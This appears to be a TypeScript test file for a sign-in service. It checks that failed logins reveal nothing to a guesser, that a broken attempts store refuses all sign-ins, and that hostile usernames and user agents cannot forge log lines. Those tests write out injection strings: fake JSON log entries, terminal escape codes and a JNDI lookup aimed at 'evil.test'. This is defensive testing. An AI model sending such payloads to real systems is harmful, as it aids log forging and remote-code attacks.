import assert from "node:assert/strict";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { after, before, beforeEach, describe, it } from "node:test";
import type { AccountName } from "../../src/identity/account-name.ts";
import { accountIdOf } from "../../src/values/ids.ts";
import { FormClient, findForm, type HttpAnswer } from "../support/form-client.ts";
import { type InProcessService, startInProcess, type TestClient } from "../support/in-process.ts";
import { ada, authorizationOf, codeAt, type Person, submitAs } from "./journey.ts";
import { assertCleanLog } from "./support/ground-rules.ts";

const wrong: Person = { ...ada, password: "not the password of ada" };

let folder: string;
let service: InProcessService;
let client: TestClient;
let page: HttpAnswer;
let browser: FormClient;
/** The lines of a request that the store failed. */
const unavailable: ReadonlySet<string> = new Set(["request-unavailable", "database-faltered"]);

before(async () => {
  folder = await mkdtemp(join(tmpdir(), "latchkey-guessing-"));
  service = await startInProcess({ LATCHKEY_TRUSTED_PROXIES: "127.0.0.1", LATCHKEY_DATA_DIR: folder });
  await service.addAccount(ada.username, ada.password);
  client = await service.addClient();
});
after(async () => {
  // The test without a store provokes it.
  const expected = service.log.filter(({ message }) => message !== "database-faltered");
  assertCleanLog(expected, [ada.password, client.secret]);
  await service[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
});

// Every test starts with all its attempts left, in a browser that nobody used before.
beforeEach(async () => {
  service.clock.advance(24 * 3_600);
  browser = new FormClient(service.url);
  page = await browser.get(authorizationOf(client));
});

/** One try from an address, in a browser that forgets whatever it learns. */
function tryFrom(address: string, person: Person): Promise<HttpAnswer> {
  const { action, fields } = findForm(page.body);
  fields.set("username", person.username);
  fields.set("password", person.password);
  const cookie = `latchkey-browser=${browser.cookies.get("latchkey-browser")}`;
  return browser.post(action, fields, { "x-forwarded-for": address, cookie });
}

describe("what a guesser can see", () => {
  /** A page without what differs in any two pages. */
  function comparable({ status, headers, body }: HttpAnswer, username: string): unknown {
    const { "content-security-policy": policy, "set-cookie": cookies, ...rest } = headers;
    // They follow from the clock and from the name, which is as long as the person typed it.
    delete rest.date;
    delete rest["content-length"];
    const text = body
      .replace(/name="step" value="[^"]+"/, `name="step"`)
      .replaceAll(/nonce="[^"]+"/g, "nonce")
      .replaceAll(`value="${username}"`, "value");
    // The flash is sealed, the name included, so only its length could tell anything.
    const sealed = (cookies ?? []).map((line) => {
      const [pair = ""] = line.split(";", 1);
      const [name, value = ""] = pair.split("=");
      return [name, value === "" ? 0 : Math.floor((value.length * 3) / 4) - username.length];
    });
    return { status, sealed, rest, policy: String(policy).replaceAll(/'nonce-[^']+'/g, "nonce"), text };
  }

  it("V6.3.8: unknown name, wrong password, disabled account and an account without a password look the same", async () => {
    const carol = { username: "carol", password: "a password of this test" };
    const carolId = await service.addAccount(carol.username, carol.password);
    await service.ports.accounts.setDisabled(carolId, true, service.clock.now());
    const now = service.clock.now();
    await service.ports.accounts.create({
      id: accountIdOf("2".repeat(20)),
      username: "empty" as AccountName,
      epoch: 0,
      isDisabled: false,
      isAdmin: false,
      createdAt: now,
      updatedAt: now,
    });
    const people: readonly Person[] = [
      wrong,
      { username: "nobody", password: "x" },
      carol,
      { username: "empty", password: "x" },
      { username: "a b", password: "x" },
    ];
    for (let round = 0; round < 7; round++) {
      const seen: unknown[] = [];
      for (const [index, person] of people.entries())
        seen.push(comparable(await tryFrom(`203.0.${index}.1`, person), person.username));
      // A text that can be nobody's name has no counter of its own, so it is compared until the counters run out.
      const alike = round < 5 ? seen : seen.slice(0, -1);
      for (const other of alike) assert.deepEqual(other, seen[0]);
    }
  });

  it("E24: a name that looks like a log line is in no log line", async () => {
    const names = [
      `ada\n{"level":"info","msg":"signed-in"}`,
      `ada","msg":"signed-in`,
      "\u001b[31mada\u001b[0m",
      "ada\u202eada",
      "$" + "{jndi:ldap://evil.test}",
    ];
    const linesBefore = service.log.length;
    for (const [index, username] of names.entries())
      assert.equal((await tryFrom(`203.0.${index}.1`, { ...wrong, username })).status, 400);
    const lines = service.log.slice(linesBefore);
    assert.equal(lines.length, names.length, "one line an event");
    for (const { message, fields } of lines) {
      assert.equal(message, "sign-in-refused");
      assert.deepEqual(Object.keys(fields).sort(), ["clientId", "network", "reason", "requestId"]);
      assert.equal(fields.reason, "mismatch");
    }
  });

  it("E24: a user agent that looks like a log line stays inside its session", async () => {
    const visitor = new FormClient(service.url);
    const form = await visitor.get(authorizationOf(client));
    const linesBefore = service.log.length;
    const agent = `x","level":"fatal\u00e9 \t{"msg":"hacked"}`;
    codeAt(await submitAs(visitor, form, ada, { "user-agent": agent }), client);
    assert.ok(!JSON.stringify(service.log.slice(linesBefore)).includes("hacked"));
  });
});

describe("E10: a store that takes no more tries", () => {
  it("E10: where tries cannot be counted nobody is judged, not even with the right password", async () => {
    const database = new DatabaseSync(join(folder, "latchkey.db"), { timeout: 5_000 });
    const linesBefore = service.log.length;
    try {
      database.exec(
        "CREATE TRIGGER full BEFORE INSERT ON attempts BEGIN SELECT RAISE(ABORT, 'no room'); END",
      );
      for (const person of [ada, wrong, { username: "nobody", password: "x" }]) {
        const answer = await tryFrom("203.0.113.1", person);
        assert.ok(answer.status >= 500, `status ${answer.status}`);
        // The typed name, for "Try again".
        const names = answer.headers["set-cookie"]?.map((cookie) => cookie.split("=")[0]);
        assert.deepEqual(names, ["latchkey-flash"]);
        assert.doesNotMatch(answer.body, /no room|SQLITE|attempts/);
      }
      assert.ok(service.log.slice(linesBefore).every(({ message }) => unavailable.has(message)));
    } finally {
      database.exec("DROP TRIGGER full");
      database.close();
    }
    codeAt(await tryFrom("203.0.113.1", ada), client);
  });
});
